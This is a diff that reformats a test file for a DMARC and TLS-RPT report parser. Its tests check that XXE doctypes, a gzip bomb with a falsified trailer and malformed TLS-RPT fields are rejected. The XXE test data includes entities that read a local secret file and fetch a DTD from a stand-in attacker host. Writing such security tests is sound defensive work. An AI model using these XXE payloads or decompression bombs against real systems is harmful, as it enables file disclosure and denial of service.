@@ -37,7 +37,11 @@ test('XXE: an external entity is refused and the file it names is never read int
   const dir = tmp();
   const secret = path.join(dir, 'secret.txt');
   writeFileSync(secret, 'root:x:0:0:TOP-SECRET');
-  for (const doctype of [`<!DOCTYPE feedback [ <!ENTITY xxe SYSTEM "file://${secret}"> ]>`, `<!DOCTYPE feedback SYSTEM "file://${secret}">`, '<!DOCTYPE feedback [ <!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p; ]>']) {
+  for (const doctype of [
+    `<!DOCTYPE feedback [ <!ENTITY xxe SYSTEM "file://${secret}"> ]>`,
+    `<!DOCTYPE feedback SYSTEM "file://${secret}">`,
+    '<!DOCTYPE feedback [ <!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p; ]>',
+  ]) {
     const file = path.join(dir, 'xxe.xml');
     writeFileSync(file, aggregateXml({ org: '&xxe;', prolog: `<?xml version="1.0"?>\n${doctype}` }));
     const items = await readReportFile(file, {}, 'xxe.xml');
@@ -79,7 +83,9 @@ test('gzip bomb: the trailer refuses an honest bomb, the output limit and the by
   // compressible) inside <org_name>, lying trailer, from a file
   const dir = tmp();
   const file = path.join(dir, 'liar-big.xml.gz');
-  const body = Buffer.from(`<?xml version="1.0"?><feedback><report_metadata><org_name>${randomBytes(3 * MB).toString('base64')}</org_name></report_metadata></feedback>`);
+  const body = Buffer.from(
+    `<?xml version="1.0"?><feedback><report_metadata><org_name>${randomBytes(3 * MB).toString('base64')}</org_name></report_metadata></feedback>`,
+  );
   const big = gzip(body);
   expect(big.length).toBeGreaterThan(2 * MB);
   big.writeUInt32LE(1024, big.length - 4);
@@ -136,10 +142,26 @@ test('TLS-RPT with wrong JSON types is a clear error naming the field, not a hal
     ['end-datetime', (t) => (t['date-range']['end-datetime'] = 'yesterday'), /"date-range\.end-datetime" must be an RFC 3339 date-time/],
     ['contact-info', (t) => (t['contact-info'] = ['a@b']), /"contact-info" must be a non-empty string, is a list/],
     ['report-id', (t) => (t['report-id'] = null), /"report-id" must be a non-empty string, is null/],
-    ['policy-domain', (t) => (t.policies[0].policy['policy-domain'] = ['company-y.example']), /"policies\[0\]\.policy\.policy-domain" must be a non-empty string, is a list/],
-    ['string count', (t) => (t.policies[0].summary['total-successful-session-count'] = '5326'), /total-successful-session-count" must be a whole number ≥ 0, is the string "5326"/],
-    ['negative count', (t) => (t.policies[0].summary['total-failure-session-count'] = -3), /total-failure-session-count" must be a whole number ≥ 0, is the number -3/],
-    ['result-type', (t) => (t.policies[0]['failure-details'][0]['result-type'] = 7), /failure-details\[0\]\.result-type" must be a non-empty string, is the number 7/],
+    [
+      'policy-domain',
+      (t) => (t.policies[0].policy['policy-domain'] = ['company-y.example']),
+      /"policies\[0\]\.policy\.policy-domain" must be a non-empty string, is a list/,
+    ],
+    [
+      'string count',
+      (t) => (t.policies[0].summary['total-successful-session-count'] = '5326'),
+      /total-successful-session-count" must be a whole number ≥ 0, is the string "5326"/,
+    ],
+    [
+      'negative count',
+      (t) => (t.policies[0].summary['total-failure-session-count'] = -3),
+      /total-failure-session-count" must be a whole number ≥ 0, is the number -3/,
+    ],
+    [
+      'result-type',
+      (t) => (t.policies[0]['failure-details'][0]['result-type'] = 7),
+      /failure-details\[0\]\.result-type" must be a non-empty string, is the number 7/,
+    ],
   ];
   for (const [label, mutate, message] of cases) {
     const t = tlsReport() as Record<string, any>;
